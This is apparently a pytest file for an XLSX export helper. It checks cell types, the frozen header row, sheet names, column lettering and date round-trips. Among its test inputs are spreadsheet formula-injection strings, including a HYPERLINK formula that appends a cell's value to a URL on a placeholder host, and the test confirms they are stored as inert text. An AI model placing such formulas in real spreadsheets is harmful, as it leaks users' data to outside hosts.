"""The XLSX we write, as openpyxl reads it."""

from datetime import datetime
from typing import Any

from openpyxl import load_workbook

from somosnlp.ui.xlsx import write_xlsx

WHEN = datetime(2026, 3, 1, 9, 5, 59)  # noqa: DTZ001 (as a cell has it)


def sheet_of(rows: list[list[Any]], name: str = "hoja") -> Any:
    with write_xlsx(rows, name) as file:
        return load_workbook(file).active


def test_texts_are_texts_and_dates_dates() -> None:
    texts = [
        '=HYPERLINK("http://example.org?x="&A1)',
        "+57 300",
        "-5",
        "@SUM(A1)",
        "#N/A",
        "\tx",
        "a\x07b",
        "",
    ]
    numbers: list[Any] = [WHEN, 7, 2.5, None, "", "Ñandú <&>", "línea\r\notra", True]

    first, second = sheet_of([texts, numbers]).iter_rows()

    assert [cell.value for cell in first] == [*texts[:6], "ab", ""]
    assert {cell.data_type for cell in first} == {"s"}
    assert [cell.value for cell in second] == [WHEN, 7, 2.5, None, "", "Ñandú <&>", "línea\notra", True]
    assert second[0].is_date


def test_first_row_stays_and_the_sheet_has_its_name() -> None:
    sheet = sheet_of([["a"], ["b"]], 'R&D "<x>"')
    assert (sheet.freeze_panes, sheet.title) == ("A2", 'R&D "<x>"')


def test_columns_after_the_26th_are_where_they_belong() -> None:
    sheet = sheet_of([[f"c{n}" for n in range(800)]])
    assert (sheet["Z1"].value, sheet["AA1"].value, sheet["ADT1"].value) == ("c25", "c26", "c799")


def test_nothing_is_a_sheet_with_nothing() -> None:
    assert sheet_of([]).max_row == 1


def test_every_date_of_a_century_is_read_as_it_was_written() -> None:
    days = [[datetime(year, 2, 28, 23, 59, second)] for year in range(1950, 2100) for second in (0, 59)]  # noqa: DTZ001
    assert [[cell.value for cell in row] for row in sheet_of(days).iter_rows()] == days
